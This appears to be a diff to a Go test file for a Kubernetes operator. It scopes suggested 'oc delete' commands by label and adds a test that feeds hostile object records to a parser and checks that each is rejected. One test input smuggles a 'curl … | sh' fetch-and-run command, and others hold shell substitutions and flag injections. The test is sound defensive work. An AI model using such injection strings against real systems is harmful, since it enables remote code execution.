@@ -1,6 +1,7 @@
 package retirement
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -74,7 +75,7 @@ func TestRecord(t *testing.T) {
 }
 
 func TestDescribe(t *testing.T) {
-	other := Describe([]string{"Deployment.apps/new"}, "smb.csi.k8s.io", "harbour")
+	other := Describe([]string{"Deployment.apps/new"}, "smb.csi.k8s.io", "smb-operator", "harbour")
 	for name, tc := range map[string]struct {
 		left     []drivers.Manifest
 		waits    []string
@@ -87,7 +88,7 @@ func TestDescribe(t *testing.T) {
 		"the rollout is waited for": {manifests("v1 ConfigMap old"), []string{"keys of a Secret"}, "", operatorv1.ConditionFalse, "Removing", []string{"ConfigMap/old", "keys of a Secret"}},
 		"keys are left":             {nil, []string{"keys of a Secret"}, "", operatorv1.ConditionFalse, "Removing", []string{"keys of a Secret"}},
 		"after a downgrade": {nil, nil, other, operatorv1.ConditionFalse, "ObjectsOfOtherVersion",
-			[]string{"oc -n harbour delete Deployment.apps/new", "oc annotate clustercsidriver smb.csi.k8s.io berth.dev/driver-objects-"}},
+			[]string{"oc -n harbour delete Deployment.apps -l app.kubernetes.io/managed-by=smb-operator --field-selector metadata.name=new", "oc annotate clustercsidriver smb.csi.k8s.io berth.dev/driver-objects-"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			got := describe(tc.left, tc.waits, tc.other)
@@ -100,5 +101,30 @@ func TestDescribe(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// TestHostileRecord: whoever may change a ClusterCSIDriver writes the record of the driver's objects.
+func TestHostileRecord(t *testing.T) {
+	for _, hostile := range []string{
+		"ConfigMap/x; curl -s http://198.51.100.7/x | sh #", "ConfigMap/$(touch x)", "ConfigMap/`touch x`", "--all/x", "ConfigMap/--all", "ConfigMap", "configmap/x", "ConfigMap/x y",
+		"Namespace/openshift-etcd", "CustomResourceDefinition.apiextensions.k8s.io/tides", "PersistentVolume/pv", "Node/worker", "ConfigMap/x\nConfigMap/y", "ConfigMap.-x/y", "ConfigMap/" + strings.Repeat("a", 300),
+		"ConfigMap/X", "ConfigMap/'", "a/b/c",
+	} {
+		if unknown := Unknown("ConfigMap/good,"+hostile+",Deployment.apps/new", nil, nil); strings.Join(unknown, ",") != "ConfigMap/good,Deployment.apps/new" {
+			t.Errorf("of %q, the record has %q", hostile, unknown)
+		}
+	}
+	// A command deletes nothing that an operator has not labelled, whatever the record names.
+	message := Describe(Unknown("ClusterRoleBinding.rbac.authorization.k8s.io/cluster-admins", nil, nil), "smb.csi.k8s.io", "smb-operator", "harbour")
+	if want := "oc -n harbour delete ClusterRoleBinding.rbac.authorization.k8s.io -l app.kubernetes.io/managed-by=smb-operator --field-selector metadata.name=cluster-admins. "; !strings.Contains(message, want) {
+		t.Errorf("message is %q, want %q in it", message, want)
+	}
+	many := make([]string, 1000)
+	for i := range many {
+		many[i] = fmt.Sprintf("ConfigMap/c%d", i)
+	}
+	if message := Describe(many, "smb.csi.k8s.io", "smb-operator", "harbour"); len(message) > 8000 || !strings.Contains(message, "and 980 more") {
+		t.Errorf("a record of 1000 objects makes a message of %d characters", len(message))
 	}
 }
